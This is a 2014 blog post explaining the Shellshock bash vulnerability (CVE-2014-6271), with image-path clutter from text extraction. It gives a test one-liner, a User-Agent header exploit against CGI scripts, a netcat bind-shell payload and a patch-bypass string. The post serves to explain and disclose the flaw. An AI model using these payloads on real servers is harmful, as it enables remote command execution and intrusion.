View RSS Feed

Fb1h2s aka Rahul Sasi's Blog

Everything you need to know about CVE-2014-6271

Rating: 45 votes, 4.91 average.

HTML Code:
Code execution possible on CGI Web Applications:    Yes [Critical ]
Code execution possible on SSH                 :           Yes [Not critical or is based on architecture ]
Working Payload for getting reverse Shell Available:      Yes
Is the Current patch complete:                                    No
Where was the Bug:

Bash supports exporting not just shell variables, but also shell functions to other bash instances, via the process environment to (indirect) child processes.

So with Bash you can export function definitions to a sub-shell. Exporting a function using export -f creates an environment variable with the function body


fb1$ fn(){ echo "sasi"; }
fb1$ export -f fn
fb1$ sh -c printenv\ fn
() {  echo "sasi"
So that is how bash function variables are written and exported. Here an important point to remember is bash consider Environment variable starting with () { as a function.

Ex: function() { echo"I am a function" }

Applications of this feature:

Example following ssh script:

importantfunction() { echo " long important function";};

ssh user@host "$(declare -pf importantfunction); importantfunction"
Now the above SSH session would have successfully imported the functionimportantfunction() "remember its only imported and never executed unless called explicitly" . Now the function could be used on the current session.

The vulnerability

The vulnerability occurs because bash does not stop after processing the function definition. It continues to parse and execute shell commands following the function definition.



fb1$ VAR=() { echo "; }; /bin/ls

VAR=() { echo "; }; <-- function ends/bin/ls   <-- here /bin/ls would get executed executed
So basically the payload to test if your bash is vulnerable would be obviously as following.

fb1$   env x='() { :;}; echo vulnerable' bash -c "echo this is a vulnerable"


There are a number of places this could be exploited .

1) SSH <-- Criticality varies [Tested ]
2) CGI Web Apps <-- High Criticality [Tested ]
3) DHCP <-- [Not tested]
4) CUPS <-- [Not tested by me]5) sudo <-- [Not tested ]

Exploiting HTTP CGI Web Applications:

CGI parses certain HTTP paramaters as environment variables.


For example ,
HTTP_COOKIE The visitor's cookie, if one is set
HTTP_HOST The hostname of the page being attempted
HTTP_REFERER The URL of the page that called your program
HTTP_USER_AGENT The browser type of the visitor

These values would be an interesting attack surface. So an attack uses the following payload to compromise the web application.
PHP Code:
GET /cgi-bin/script HTTP/1.1
-Agent: () { :;}; echo aa>/tmp/hacked
Here Bash when parsing the environment variables would now parse User-Agent () as a function name and rest the function definition and then the payload.

PHP Code:
User-Agent: ()       <-- Treated as function

{ :;};               <-- Function

echo aa>/tmp/hacked  <-- Extra payloadName:  Screen Shot 2014-09-25 at 2.33.27 am.jpg
Views: 10687
Size:  21.7 KB


Now attackers can utilise a Bind shell payload as put-up here:

() { ignored;};/bin/bash -c '/bin/rm -f /tmp/f; /usr/bin/mkfifo /tmp/f;cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1234 > /tmp/f'

Current Patch:

Current patch is broken:

We were able to test a bypass for the patch and it worked

env lol='() { (nothing)=>\' sh -c "echo date"; echo ôvulnerable"
So current patch cannot be trusted. But at the same time based on initial analysis it can provide protection against Remote attacks on CGI applications.

Exploiting SSH:

If an attacker does not have an SSH account this exploit would not work. That is the reason why I categorized this as less vulnerable. But certain environments it is possible to have a shell user to have bypass shell restrictions. One good example is over here, Gitlab-shell is affected by Bash CVE-2014-6271

It is possible to inject shell parameters into an SSH session.

Few reference:
Bash bug write-up with Snort and Suricata signatures by @stevenadair @Volexity #DFIR
Fix Bash remote vulnerability CVE-2014-6271 on your Mac -
How do I recompile Bash to avoid the remote exploit CVE-2014-6271 and CVE-2014-7169?
CVE-2014-6271 / Shellshock & How to handle all the shells!
Updating CVE-2014-6271 on OSX and Linux
Busybox also vulnerable to CVE-2014-6271 in Android Terminal Emulator > (CM11 shown)

Updated 10-01-2014 at 03:36 PM by41.w4r10r



  1. liyw's Avatar
    Updated 09-26-2014 at 12:19 AM by liyw
  2. fb1h2s's Avatar
    @liw thanks man, was usefull. I was planning to Update DNs stuffs .
  3. neo's Avatar
    Our good friend [S] had also suggestedwhich is showing qmail program to be vulnerable towardsShellShock.


Total Trackbacks 0
Trackback URL: